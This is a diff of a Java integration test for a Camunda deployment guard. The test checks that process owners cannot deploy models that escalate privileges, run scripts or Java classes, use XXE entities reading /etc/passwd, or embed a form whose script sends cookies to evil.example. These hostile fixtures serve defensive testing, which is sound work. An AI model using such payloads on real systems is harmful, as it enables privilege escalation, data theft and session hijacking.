@@ -27,7 +27,6 @@ import org.camunda.bpm.engine.repository.DecisionDefinition;
 import org.camunda.bpm.engine.repository.Deployment;
 import org.camunda.bpm.engine.repository.ProcessDefinition;
 import org.camunda.bpm.engine.runtime.Job;
-import org.camunda.bpm.engine.runtime.ProcessInstance;
 import org.camunda.bpm.engine.task.Task;
 import org.invisiblebars.sla.domain.SlaTarget;
 import org.invisiblebars.support.IntegrationTest;
@@ -43,23 +42,25 @@ import org.springframework.http.MediaType;
 import org.springframework.http.ResponseEntity;
 
 /**
- * Process owners deploy from Camunda Modeler through the engine REST API (and could through the
- * web applications' engine API or, signed in, the Java API). What they deploy may read variables
- * and call the beans published for models, nothing else; administrators and the application's
- * own deployment are trusted. Every refusal is a 400 that names each offending element.
+ * Process owners deploy from Camunda Modeler through the engine REST API (and could through the web
+ * applications' engine API or, signed in, the Java API). What they deploy may read variables and
+ * call the beans published for models, nothing else; administrators and the application's own
+ * deployment are trusted. Every refusal is a 400 that names each offending element.
  */
 class ProcessOwnerDeploymentIT extends IntegrationTest {
 
   private static final String ADMIN_GROUP = "camunda-admin";
 
   /** Makes paula an administrator when it runs, as the job executor runs it: without a user. */
-  private static final String MAKE_PAULA_ADMINISTRATOR = """
+  private static final String MAKE_PAULA_ADMINISTRATOR =
+      """
       <bpmn:serviceTask id="Task_MakeAdministrator"
           camunda:expression="${identityService.createMembership('paula','camunda-admin')}" />
       """;
 
   /** Runs a command of the operating system. */
-  private static final String SCRIPT_TASK = """
+  private static final String SCRIPT_TASK =
+      """
       <bpmn:startEvent id="StartEvent_Started" />
       <bpmn:scriptTask id="Task_RunScript" scriptFormat="javascript">
         <bpmn:script>Runtime.getRuntime().exec('id')</bpmn:script>
@@ -74,7 +75,10 @@ class ProcessOwnerDeploymentIT extends IntegrationTest {
   @Autowired TaskService taskService;
   @Autowired ObjectMapper json;
 
-  /** Deployments a test made; removed afterwards with their instances, so later tests see our models. */
+  /**
+   * Deployments a test made; removed afterwards with their instances, so later tests see our
+   * models.
+   */
   private final List<String> deployments = new ArrayList<>();
 
   @AfterEach
@@ -90,42 +94,67 @@ class ProcessOwnerDeploymentIT extends IntegrationTest {
 
   @Test
   void processOwnerCannotMakeHerselfAdministrator() throws Exception {
-    ResponseEntity<String> response = ModelerDeployment.named("guard-elevation")
-        .file("elevation.bpmn", process("guard-elevation", """
+    ResponseEntity<String> response =
+        ModelerDeployment.named("guard-elevation")
+            .file(
+                "elevation.bpmn",
+                process(
+                    "guard-elevation",
+                    """
             <bpmn:startEvent id="StartEvent_LongAgo">
               <bpmn:timerEventDefinition id="TimerEventDefinition_LongAgo">
                 <bpmn:timeDate xsi:type="bpmn:tFormalExpression">2020-01-01T00:00:00Z</bpmn:timeDate>
               </bpmn:timerEventDefinition>
             </bpmn:startEvent>
-            """ + MAKE_PAULA_ADMINISTRATOR + """
+            """
+                        + MAKE_PAULA_ADMINISTRATOR
+                        + """
             <bpmn:endEvent id="EndEvent_Done" />
             <bpmn:sequenceFlow id="SequenceFlow_1" sourceRef="StartEvent_LongAgo" targetRef="Task_MakeAdministrator" />
             <bpmn:sequenceFlow id="SequenceFlow_2" sourceRef="Task_MakeAdministrator" targetRef="EndEvent_Done" />
             """))
-        .deployAs(as("paula"));
+            .deployAs(as("paula"));
 
     runDueJobsOf("guard-elevation");
 
     assertThat(isAdministrator("paula")).as("paula after the due jobs ran").isFalse();
     assertThat(response.getStatusCode()).as(response.getBody()).isEqualTo(HttpStatus.BAD_REQUEST);
-    assertThat(offences(response)).anySatisfy(offence -> assertThat(offence)
-        .contains("elevation.bpmn", "Task_MakeAdministrator", "camunda:expression", "identityService"));
-    assertThat(repositoryService.createProcessDefinitionQuery().processDefinitionKey("guard-elevation").count()).isZero();
+    assertThat(offences(response))
+        .anySatisfy(
+            offence ->
+                assertThat(offence)
+                    .contains(
+                        "elevation.bpmn",
+                        "Task_MakeAdministrator",
+                        "camunda:expression",
+                        "identityService"));
+    assertThat(
+            repositoryService
+                .createProcessDefinitionQuery()
+                .processDefinitionKey("guard-elevation")
+                .count())
+        .isZero();
   }
 
   @Test
   void scriptTaskIsRefused() throws Exception {
-    ResponseEntity<String> response = ModelerDeployment.named("guard-script")
-        .file("script.bpmn", process("guard-script", SCRIPT_TASK))
-        .deployAs(as("paula"));
+    ResponseEntity<String> response =
+        ModelerDeployment.named("guard-script")
+            .file("script.bpmn", process("guard-script", SCRIPT_TASK))
+            .deployAs(as("paula"));
 
     assertRefused(response, "script.bpmn", "Task_RunScript", "script");
   }
 
   @Test
   void javaClassesAreRefusedEachOneListed() throws Exception {
-    ResponseEntity<String> response = ModelerDeployment.named("guard-class")
-        .file("class.bpmn", process("guard-class", """
+    ResponseEntity<String> response =
+        ModelerDeployment.named("guard-class")
+            .file(
+                "class.bpmn",
+                process(
+                    "guard-class",
+                    """
             <bpmn:startEvent id="StartEvent_Started" />
             <bpmn:serviceTask id="Task_RunClass" camunda:class="org.example.Evil" />
             <bpmn:userTask id="Task_Listened" camunda:candidateGroups="ngo-liaison">
@@ -136,19 +165,25 @@ class ProcessOwnerDeploymentIT extends IntegrationTest {
             <bpmn:sequenceFlow id="SequenceFlow_1" sourceRef="StartEvent_Started" targetRef="Task_RunClass" />
             <bpmn:sequenceFlow id="SequenceFlow_2" sourceRef="Task_RunClass" targetRef="Task_Listened" />
             """))
-        .deployAs(as("paula"));
+            .deployAs(as("paula"));
 
     assertRefused(response, "class.bpmn", "Task_RunClass", "camunda:class");
-    assertThat(offences(response)).anySatisfy(offence -> assertThat(offence).contains("Task_Listened", "class"));
+    assertThat(offences(response))
+        .anySatisfy(offence -> assertThat(offence).contains("Task_Listened", "class"));
   }
 
   @Test
   void slaPolicyWhoseEntryCallsABeanIsRefused() throws Exception {
-    String policy = withOutputEntry("DecisionRule_Default_Target", " expressionLanguage=\"juel\"",
-        "${identityService.createMembership('paula','camunda-admin')}");
+    String policy =
+        withOutputEntry(
+            "DecisionRule_Default_Target",
+            " expressionLanguage=\"juel\"",
+            "${identityService.createMembership('paula','camunda-admin')}");
 
-    ResponseEntity<String> response = ModelerDeployment.named("guard-sla-policy").file("sla-policy.dmn", policy)
-        .deployAs(as("paula"));
+    ResponseEntity<String> response =
+        ModelerDeployment.named("guard-sla-policy")
+            .file("sla-policy.dmn", policy)
+            .deployAs(as("paula"));
 
     assertRefused(response, "sla-policy.dmn", "DecisionRule_Default_Target", "identityService");
     assertThat(isAdministrator("paula")).isFalse();
@@ -156,33 +191,46 @@ class ProcessOwnerDeploymentIT extends IntegrationTest {
 
   @Test
   void doctypeWithExternalEntityIsRefused() throws Exception {
-    String model = """
+    String model =
+        """
         <?xml version="1.0" encoding="UTF-8"?>
         <!DOCTYPE bpmn:definitions [ <!ENTITY secret SYSTEM "file:///etc/passwd"> ]>
-        """ + process("guard-entity", """
+        """
+            + process(
+                    "guard-entity",
+                    """
             <bpmn:startEvent id="StartEvent_Started" name="&secret;" />
-            """).replaceFirst("<\\?xml[^>]*>\\s*", "");
+            """)
+                .replaceFirst("<\\?xml[^>]*>\\s*", "");
 
-    ResponseEntity<String> response = ModelerDeployment.named("guard-entity").file("entity.bpmn", model)
-        .deployAs(as("paula"));
+    ResponseEntity<String> response =
+        ModelerDeployment.named("guard-entity").file("entity.bpmn", model).deployAs(as("paula"));
 
     assertRefused(response, "entity.bpmn", null, "DOCTYPE");
   }
 
   @Test
   void embeddedFormsAreRefused() throws Exception {
-    ResponseEntity<String> response = ModelerDeployment.named("guard-embedded")
-        .file("embedded.bpmn", process("guard-embedded", """
+    ResponseEntity<String> response =
+        ModelerDeployment.named("guard-embedded")
+            .file(
+                "embedded.bpmn",
+                process(
+                    "guard-embedded",
+                    """
             <bpmn:startEvent id="StartEvent_Started" />
             <bpmn:userTask id="Task_FillIn" camunda:candidateGroups="ngo-liaison"
                 camunda:formKey="embedded:deployment:steal-session.html" />
             <bpmn:sequenceFlow id="SequenceFlow_1" sourceRef="StartEvent_Started" targetRef="Task_FillIn" />
             """))
-        .file("steal-session.html", "<form><script>fetch('//evil.example/?c=' + document.cookie)</script></form>")
-        .deployAs(as("paula"));
+            .file(
+                "steal-session.html",
+                "<form><script>fetch('//evil.example/?c=' + document.cookie)</script></form>")
+            .deployAs(as("paula"));
 
     assertRefused(response, "embedded.bpmn", "Task_FillIn", "camunda:formKey");
-    assertThat(offences(response)).anySatisfy(offence -> assertThat(offence).contains("steal-session.html"));
+    assertThat(offences(response))
+        .anySatisfy(offence -> assertThat(offence).contains("steal-session.html"));
   }
 
   @Test
@@ -199,16 +247,23 @@ class ProcessOwnerDeploymentIT extends IntegrationTest {
         .extracting(ProcessDefinition::getKey)
         .containsExactlyInAnyOrder("ngo-accreditation", "entry-authorisation", "report-review");
     assertThat(repositoryService.createDecisionDefinitionQuery().deploymentId(deploymentId).list())
-        .extracting(DecisionDefinition::getKey).contains("sla-policy", "visit-risk", "search-protocol", "accreditation-criteria");
+        .extracting(DecisionDefinition::getKey)
+        .contains("sla-policy", "visit-risk", "search-protocol", "accreditation-criteria");
   }
 
   @Test
   void processOwnersChangeGoesLive() throws Exception {
-    String policy = withOutputEntry("DecisionRule_AccreditationTasks_Target", "", "&quot;P7D&quot;");
-    String accreditation = ModelerDeployment.text("processes/ngo-accreditation.bpmn")
-        .replace("name=\"Check application completeness\"", "name=\"Check the application is complete\"");
-    ModelerDeployment change = ModelerDeployment.named("guard-change")
-        .file("sla-policy.dmn", policy).file("ngo-accreditation.bpmn", accreditation);
+    String policy =
+        withOutputEntry("DecisionRule_AccreditationTasks_Target", "", "&quot;P7D&quot;");
+    String accreditation =
+        ModelerDeployment.text("processes/ngo-accreditation.bpmn")
+            .replace(
+                "name=\"Check application completeness\"",
+                "name=\"Check the application is complete\"");
+    ModelerDeployment change =
+        ModelerDeployment.named("guard-change")
+            .file("sla-policy.dmn", policy)
+            .file("ngo-accreditation.bpmn", accreditation);
     repositoryModels().filter(path -> path.startsWith("forms/")).forEach(change::repositoryFile);
 
     ResponseEntity<String> response = change.deployAs(as("paula"));
@@ -217,24 +272,39 @@ class ProcessOwnerDeploymentIT extends IntegrationTest {
     String deploymentId = json.readTree(response.getBody()).get("id").asText();
     deployments.add(deploymentId);
     String accreditationId = apply("Guard change check");
-    Task check = taskService.createTaskQuery().processInstanceBusinessKey(accreditationId).singleResult();
-    ProcessDefinition running = repositoryService.getProcessDefinition(check.getProcessDefinitionId());
+    Task check =
+        taskService.createTaskQuery().processInstanceBusinessKey(accreditationId).singleResult();
+    ProcessDefinition running =
+        repositoryService.getProcessDefinition(check.getProcessDefinitionId());
     assertThat(running.getDeploymentId()).as("the new version runs").isEqualTo(deploymentId);
     assertThat(check.getName()).isEqualTo("Check the application is complete");
-    assertThat(check.getDueDate().toInstant()).as("the changed target")
-        .isEqualTo(SlaTarget.of("P7D", true, "P1D", "manager").dueFrom(check.getCreateTime().toInstant(), ZoneId.of("UTC")));
-    assertThat(taskService.getVariableLocal(check.getId(), "applicationSummary")).as("the published task listener ran")
-        .asString().contains("Guard change check");
+    assertThat(check.getDueDate().toInstant())
+        .as("the changed target")
+        .isEqualTo(
+            SlaTarget.of("P7D", true, "P1D", "manager")
+                .dueFrom(check.getCreateTime().toInstant(), ZoneId.of("UTC")));
+    assertThat(taskService.getVariableLocal(check.getId(), "applicationSummary"))
+        .as("the published task listener ran")
+        .asString()
+        .contains("Guard change check");
   }
 
   @Test
   void administratorsAreTrusted() throws Exception {
-    ResponseEntity<String> response = ModelerDeployment.named("guard-admin")
-        .file("admin.bpmn", process("guard-admin", SCRIPT_TASK + MAKE_PAULA_ADMINISTRATOR))
-        .deployAs(as("admin"));
+    ResponseEntity<String> response =
+        ModelerDeployment.named("guard-admin")
+            .file("admin.bpmn", process("guard-admin", SCRIPT_TASK + MAKE_PAULA_ADMINISTRATOR))
+            .deployAs(as("admin"));
 
-    assertThat(response.getStatusCode()).as("what paula may not deploy: " + response.getBody()).isEqualTo(HttpStatus.OK);
-    assertThat(repositoryService.createProcessDefinitionQuery().processDefinitionKey("guard-admin").count()).isOne();
+    assertThat(response.getStatusCode())
+        .as("what paula may not deploy: " + response.getBody())
+        .isEqualTo(HttpStatus.OK);
+    assertThat(
+            repositoryService
+                .createProcessDefinitionQuery()
+                .processDefinitionKey("guard-admin")
+                .count())
+        .isOne();
   }
 
   /**
@@ -244,36 +314,53 @@ class ProcessOwnerDeploymentIT extends IntegrationTest {
    */
   @Test
   void aFileThatIsNoReadableModelIsABadRequestForEveryDeployer() throws Exception {
-    Map<String, String> unreadable = Map.of(
-        "not-xml.bpmn", "this is not XML",
-        "doctype.bpmn", "<?xml version=\"1.0\"?>\n<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>\n<x>&e;</x>",
-        "not-xml.dmn", "neither is this",
-        "no-inputs.dmn", """
+    Map<String, String> unreadable =
+        Map.of(
+            "not-xml.bpmn", "this is not XML",
+            "doctype.bpmn",
+                "<?xml version=\"1.0\"?>\n<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>\n<x>&e;</x>",
+            "not-xml.dmn", "neither is this",
+            "no-inputs.dmn",
+                """
             <?xml version="1.0" encoding="UTF-8"?>
             <definitions xmlns="https://www.omg.org/spec/DMN/20191111/MODEL/" id="d" name="d" namespace="x">
               <decision id="guard-unreadable"><decisionTable><output id="o" typeRef="string"/>
                 <rule id="r"><outputEntry id="e"><text>"a"</text></outputEntry></rule></decisionTable></decision>
             </definitions>
             """,
-        "not-json.form", "{\"components\": [");
+            "not-json.form", "{\"components\": [");
     for (String deployer : List.of("admin", "paula")) {
       for (Map.Entry<String, String> file : unreadable.entrySet()) {
-        ResponseEntity<String> response = ModelerDeployment.named("guard-unreadable").file(file.getKey(), file.getValue())
-            .deployAs(as(deployer));
+        ResponseEntity<String> response =
+            ModelerDeployment.named("guard-unreadable")
+                .file(file.getKey(), file.getValue())
+                .deployAs(as(deployer));
 
-        assertThat(response.getStatusCode()).as(deployer + " deploys " + file.getKey() + ": " + response.getBody())
+        assertThat(response.getStatusCode())
+            .as(deployer + " deploys " + file.getKey() + ": " + response.getBody())
             .isEqualTo(HttpStatus.BAD_REQUEST);
-        assertThat(response.getBody()).contains(file.getKey()).doesNotContain("\tat ").doesNotContain("root:");
+        assertThat(response.getBody())
+            .contains(file.getKey())
+            .doesNotContain("\tat ")
+            .doesNotContain("root:");
       }
     }
-    assertThat(repositoryService.createDeploymentQuery().deploymentName("guard-unreadable").count()).isZero();
+    assertThat(repositoryService.createDeploymentQuery().deploymentName("guard-unreadable").count())
+        .isZero();
   }
 
   @Test
   void modelsReachOnlyTheBeansPublishedForThem() throws Exception {
     // Deployed as the application deploys at start: no user, not checked.
-    Deployment deployment = repositoryService.createDeployment().name("guard-beans")
-        .addString("beans.bpmn", process("guard-beans", """
+    Deployment deployment =
+        repositoryService
+            .createDeployment()
+            .name("guard-beans")
+            .addString(
+                "beans.bpmn",
+                process(
+                    "guard-beans",
+                    """
             <bpmn:startEvent id="StartEvent_Started" />
             <bpmn:exclusiveGateway id="Gateway_Published" />
             <bpmn:serviceTask id="Task_CallUnpublished"
@@ -287,7 +374,7 @@ class ProcessOwnerDeploymentIT extends IntegrationTest {
               <bpmn:conditionExpression xsi:type="bpmn:tFormalExpression">${checkVisitScopeDelegate == null}</bpmn:conditionExpression>
             </bpmn:sequenceFlow>
             """))
-        .deploy();
+            .deploy();
     deployments.add(deployment.getId());
 
     assertThatThrownBy(() -> runtimeService.startProcessInstanceByKey("guard-beans"))
@@ -301,13 +388,21 @@ class ProcessOwnerDeploymentIT extends IntegrationTest {
   void theJavaApiChecksASignedInProcessOwnerToo() {
     identityService.setAuthentication("paula", List.of("process-owner"));
     try {
-      assertThatThrownBy(() -> repositoryService.createDeployment().name("guard-java-api")
-          .addString("java-api.bpmn", process("guard-java-api", """
+      assertThatThrownBy(
+              () ->
+                  repositoryService
+                      .createDeployment()
+                      .name("guard-java-api")
+                      .addString(
+                          "java-api.bpmn",
+                          process(
+                              "guard-java-api",
+                              """
               <bpmn:startEvent id="StartEvent_Started" />
               <bpmn:serviceTask id="Task_CallService" camunda:expression="${execution.getProcessEngineServices().getIdentityService()}" />
               <bpmn:sequenceFlow id="SequenceFlow_1" sourceRef="StartEvent_Started" targetRef="Task_CallService" />
               """))
-          .deploy())
+                      .deploy())
           .isInstanceOf(ParseException.class)
           .hasMessageContaining("Task_CallService");
     } finally {
@@ -320,27 +415,36 @@ class ProcessOwnerDeploymentIT extends IntegrationTest {
     WebappSession session = new WebappSession(baseUrl());
     assertThat(session.login("paula", "demo", "tasklist")).isEqualTo(200);
 
-    var response = session.postMultipart("/camunda/api/engine/engine/default/deployment/create",
-        Map.of("deployment-name", "guard-webapp", "deployment-source", "Camunda Modeler"),
-        Map.of("webapp.bpmn", process("guard-webapp", MAKE_PAULA_ADMINISTRATOR)));
+    var response =
+        session.postMultipart(
+            "/camunda/api/engine/engine/default/deployment/create",
+            Map.of("deployment-name", "guard-webapp", "deployment-source", "Camunda Modeler"),
+            Map.of("webapp.bpmn", process("guard-webapp", MAKE_PAULA_ADMINISTRATOR)));
 
     assertThat(response.statusCode()).as(response.body()).isEqualTo(400);
-    assertThat(json.readTree(response.body()).at("/details/webapp.bpmn/errors/0/mainElementId").asText())
+    assertThat(
+            json.readTree(response.body())
+                .at("/details/webapp.bpmn/errors/0/mainElementId")
+                .asText())
         .isEqualTo("Task_MakeAdministrator");
   }
 
   // ---------------------------------------------------------------------------------------------
 
-  private void assertRefused(ResponseEntity<String> response, String resource, String elementId, String why) throws IOException {
+  private void assertRefused(
+      ResponseEntity<String> response, String resource, String elementId, String why)
+      throws IOException {
     assertThat(response.getStatusCode()).as(response.getBody()).isEqualTo(HttpStatus.BAD_REQUEST);
     JsonNode body = json.readTree(response.getBody());
     assertThat(body.get("type").asText()).isEqualTo("ParseException");
-    assertThat(offences(response)).anySatisfy(offence -> {
-      assertThat(offence).contains(resource, why);
-      if (elementId != null) {
-        assertThat(offence).contains(elementId);
-      }
-    });
+    assertThat(offences(response))
+        .anySatisfy(
+            offence -> {
+              assertThat(offence).contains(resource, why);
+              if (elementId != null) {
+                assertThat(offence).contains(elementId);
+              }
+            });
     assertThat(body.get("message").asText()).contains(resource);
   }
 
@@ -348,8 +452,21 @@ class ProcessOwnerDeploymentIT extends IntegrationTest {
   private List<String> offences(ResponseEntity<String> response) throws IOException {
     List<String> offences = new ArrayList<>();
     JsonNode details = json.readTree(response.getBody()).path("details");
-    details.fieldNames().forEachRemaining(resource -> details.get(resource).path("errors").forEach(error ->
-        offences.add(resource + " | " + error.path("mainElementId").asText() + " | " + error.path("message").asText())));
+    details
+        .fieldNames()
+        .forEachRemaining(
+            resource ->
+                details
+                    .get(resource)
+                    .path("errors")
+                    .forEach(
+                        error ->
+                            offences.add(
+                                resource
+                                    + " | "
+                                    + error.path("mainElementId").asText()
+                                    + " | "
+                                    + error.path("message").asText())));
     return offences;
   }
 
@@ -361,7 +478,8 @@ class ProcessOwnerDeploymentIT extends IntegrationTest {
   private void runDueJobsOf(String processKey) throws InterruptedException {
     Instant until = Instant.now().plus(Duration.ofSeconds(10));
     List<Job> jobs;
-    while (!(jobs = managementService.createJobQuery().processDefinitionKey(processKey).list()).isEmpty()
+    while (!(jobs = managementService.createJobQuery().processDefinitionKey(processKey).list())
+            .isEmpty()
         && Instant.now().isBefore(until)) {
       for (Job job : jobs) {
         try {
@@ -374,31 +492,62 @@ class ProcessOwnerDeploymentIT extends IntegrationTest {
   }
 
   private String apply(String activity) throws IOException {
-    String facility = json.readTree(as("john").getForObject("/api/v1/facilities", String.class)).get(0).get("id").asText();
-    var body = Map.of("mandateType", "NGO", "programmeType", "MONITORING", "proposedActivity", activity,
-        "sustainabilityMonths", 12, "facilityIds", List.of(facility),
-        "representatives", List.of(Map.of("fullName", "Gus Guard")));
+    String facility =
+        json.readTree(as("john").getForObject("/api/v1/facilities", String.class))
+            .get(0)
+            .get("id")
+            .asText();
+    var body =
+        Map.of(
+            "mandateType",
+            "NGO",
+            "programmeType",
+            "MONITORING",
+            "proposedActivity",
+            activity,
+            "sustainabilityMonths",
+            12,
+            "facilityIds",
+            List.of(facility),
+            "representatives",
+            List.of(Map.of("fullName", "Gus Guard")));
     HttpHeaders headers = new HttpHeaders();
     headers.setContentType(MediaType.APPLICATION_JSON);
-    ResponseEntity<String> created = as("john").postForEntity("/api/v1/accreditations", new HttpEntity<>(body, headers), String.class);
+    ResponseEntity<String> created =
+        as("john")
+            .postForEntity("/api/v1/accreditations", new HttpEntity<>(body, headers), String.class);
     assertThat(created.getStatusCode()).as(created.getBody()).isEqualTo(HttpStatus.CREATED);
     return json.readTree(created.getBody()).get("id").asText();
   }
 
-  /** processes/sla-policy.dmn with one output entry changed: its attributes added and its text replaced. */
+  /**
+   * processes/sla-policy.dmn with one output entry changed: its attributes added and its text
+   * replaced.
+   */
   private static String withOutputEntry(String entryId, String attributes, String text) {
     String policy = ModelerDeployment.text("processes/sla-policy.dmn");
-    String changed = policy.replaceFirst("(<outputEntry id=\"" + entryId + "\")(>\\s*<text>)[^<]*(</text>)",
-        "$1" + Matcher.quoteReplacement(attributes) + "$2" + Matcher.quoteReplacement(text) + "$3");
+    String changed =
+        policy.replaceFirst(
+            "(<outputEntry id=\"" + entryId + "\")(>\\s*<text>)[^<]*(</text>)",
+            "$1"
+                + Matcher.quoteReplacement(attributes)
+                + "$2"
+                + Matcher.quoteReplacement(text)
+                + "$3");
     assertThat(changed).as("the policy has the entry " + entryId).isNotEqualTo(policy);
     return changed;
   }
 
   /** The models and forms the application deploys at start, as repository paths. */
   private static Stream<String> repositoryModels() throws IOException {
-    try (Stream<Path> processes = Files.list(Path.of("processes")); Stream<Path> forms = Files.list(Path.of("forms"))) {
-      return Stream.concat(processes, forms).map(Path::toString).filter(path -> path.matches(".*\\.(bpmn|dmn|form)"))
-          .sorted().toList().stream();
+    try (Stream<Path> processes = Files.list(Path.of("processes"));
+        Stream<Path> forms = Files.list(Path.of("forms"))) {
+      return Stream.concat(processes, forms)
+          .map(Path::toString)
+          .filter(path -> path.matches(".*\\.(bpmn|dmn|form)"))
+          .sorted()
+          .toList()
+          .stream();
     }
   }
 
@@ -414,6 +563,7 @@ class ProcessOwnerDeploymentIT extends IntegrationTest {
         %s
           </bpmn:process>
         </bpmn:definitions>
-        """.formatted(key, key, elements.indent(4));
+        """
+        .formatted(key, key, elements.indent(4));
   }
 }
